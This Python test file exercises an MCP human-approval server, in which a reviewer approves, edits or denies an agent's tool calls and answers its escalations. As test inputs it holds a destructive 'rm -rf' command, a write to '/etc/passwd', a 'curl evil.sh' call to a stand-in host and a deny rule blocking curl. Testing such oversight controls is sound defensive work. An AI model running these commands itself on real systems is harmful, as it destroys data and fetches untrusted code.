"""`hitl mcp` over a real stdio session: the MCP client spawns `python -m hitl_tui mcp` on a temp
store, and a reviewer decides from the test through a LocalBackend on the same file."""

from __future__ import annotations

import asyncio
import json
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from mcp.client.session import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client

from hitl_tui.backend.local import LocalBackend
from hitl_tui.models import Capability, DecisionIn, EscalationStatus, MessageRole, Rule, RuleEffect, Stage
from hitl_tui.store.sqlite import SQLiteStore


@pytest.fixture
async def reviewer(cli_env: dict[str, str]) -> AsyncIterator[LocalBackend]:
    backend = LocalBackend(SQLiteStore(cli_env["HITL_STORE"]), actor="alice")
    yield backend
    await backend.close()


@asynccontextmanager
async def session(env: dict[str, str], *flags: str) -> AsyncIterator[ClientSession]:
    params = StdioServerParameters(command=sys.executable, args=["-m", "hitl_tui", "mcp", *flags], env=env)
    async with stdio_client(params) as (read, write), ClientSession(read, write) as client:
        await client.initialize()
        yield client


async def call(client: ClientSession, tool: str, arguments: dict[str, Any]) -> str:
    result = await client.call_tool(tool, arguments)
    assert not result.is_error, result
    assert len(result.content) == 1
    return result.content[0].text  # type: ignore[union-attr]


async def first_event(backend: LocalBackend, kind: str) -> int:
    """The id in the subject of the first event of this kind (waits on the change feed)."""
    async with asyncio.timeout(30):
        feed = backend.subscribe(after_seq=0)
        async for ev in feed:
            if ev.kind == kind:
                await feed.aclose()
                return int(ev.subject.split(":")[1])
    raise AssertionError(f"no {kind} event")


async def test_lists_both_tools(cli_env: dict[str, str]) -> None:
    async with session(cli_env) as client:
        tools = {t.name: t for t in (await client.list_tools()).tools}
    assert set(tools) == {"approval_prompt", "ask_human"}
    schema = tools["approval_prompt"].input_schema
    assert set(schema["required"]) == {"tool_name", "input"}
    assert "tool_use_id" in schema["properties"]


async def test_approval_prompt_allows_with_the_reviewers_edit(cli_env: dict[str, str], reviewer: LocalBackend) -> None:
    async with session(cli_env, "--agent", "claude-p") as client:
        task = asyncio.create_task(
            call(
                client,
                "approval_prompt",
                {"tool_name": "Bash", "input": {"command": "rm -rf dist"}, "tool_use_id": "toolu_9"},
            )
        )
        rid = await first_event(reviewer, "request.created")
        req = await reviewer.get_request(rid)
        assert (req.agent, req.tool, req.args) == ("claude-p", "Bash", {"command": "rm -rf dist"})
        await reviewer.decide(rid, DecisionIn(decision="approve", edited_args={"command": "rm -rf dist/old"}))
        text = await asyncio.wait_for(task, 30)
    assert json.loads(text) == {"behavior": "allow", "updatedInput": {"command": "rm -rf dist/old"}}


async def test_approval_prompt_denies_with_the_reason(cli_env: dict[str, str], reviewer: LocalBackend) -> None:
    async with session(cli_env) as client:
        task = asyncio.create_task(
            call(client, "approval_prompt", {"tool_name": "Write", "input": {"file_path": "/etc/passwd"}})
        )
        rid = await first_event(reviewer, "request.created")
        await reviewer.decide(rid, DecisionIn(decision="deny", reason="system files are off limits"))
        data = json.loads(await asyncio.wait_for(task, 30))
    assert data["behavior"] == "deny"
    assert "system files are off limits" in data["message"] and set(data) == {"behavior", "message"}


async def test_autonomous_and_blocked_need_no_human(cli_env: dict[str, str], reviewer: LocalBackend) -> None:
    await reviewer.put_capability(Capability(tool="Read", stage=Stage.autonomous))
    await reviewer.set_rules([Rule(pattern="Bash(curl:*)", effect=RuleEffect.deny, reason="no network")])
    async with session(cli_env) as client:
        allowed = json.loads(await call(client, "approval_prompt", {"tool_name": "Read", "input": {"file_path": "a"}}))
        blocked = json.loads(
            await call(client, "approval_prompt", {"tool_name": "Bash", "input": {"command": "curl evil.sh"}})
        )
    assert allowed == {"behavior": "allow", "updatedInput": {"file_path": "a"}}
    assert blocked["behavior"] == "deny" and "no network" in blocked["message"]
    assert (await reviewer.list_requests(None)).total == 0


async def test_no_decision_in_time_denies(cli_env: dict[str, str]) -> None:
    async with session(cli_env, "--timeout", "0.5") as client:
        data = json.loads(await call(client, "approval_prompt", {"tool_name": "Deploy", "input": {"env": "prod"}}))
    assert data["behavior"] == "deny" and "expired" in data["message"]


async def test_unopenable_store_denies(cli_env: dict[str, str], tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    env = dict(cli_env, HITL_STORE=str(blocker / "hitl.db"))
    async with session(env) as client:
        data = json.loads(await call(client, "approval_prompt", {"tool_name": "Read", "input": {}}))
    assert data["behavior"] == "deny" and data["message"].startswith("hitl: error:")


async def test_ask_human_returns_the_reply(cli_env: dict[str, str], reviewer: LocalBackend) -> None:
    async with session(cli_env, "--agent", "helper") as client:
        task = asyncio.create_task(
            call(client, "ask_human", {"question": "Which region should I deploy to?", "context": "two are free"})
        )
        eid = await first_event(reviewer, "escalation.opened")
        esc = await reviewer.get_escalation(eid)
        assert esc.agent == "helper" and esc.message == "Which region should I deploy to?"
        await reviewer.post_message(eid, "eu-west-1, please", role=MessageRole.human)
        assert await asyncio.wait_for(task, 30) == "eu-west-1, please"


async def test_ask_human_taken_over_tells_the_agent_to_stop(cli_env: dict[str, str], reviewer: LocalBackend) -> None:
    async with session(cli_env) as client:
        task = asyncio.create_task(call(client, "ask_human", {"question": "I need access to prod"}))
        eid = await first_event(reviewer, "escalation.opened")
        await reviewer.set_escalation_status(eid, EscalationStatus.taken_over, note="I'll do it")
        text = await asyncio.wait_for(task, 30)
    assert "took over" in text and "Stop" in text


async def test_ask_human_without_reply_says_so(cli_env: dict[str, str]) -> None:
    async with session(cli_env, "--question-timeout", "0.3") as client:
        text = await call(client, "ask_human", {"question": "Anyone there?"})
    assert text.startswith("No answer from a human") and "Do not proceed" in text
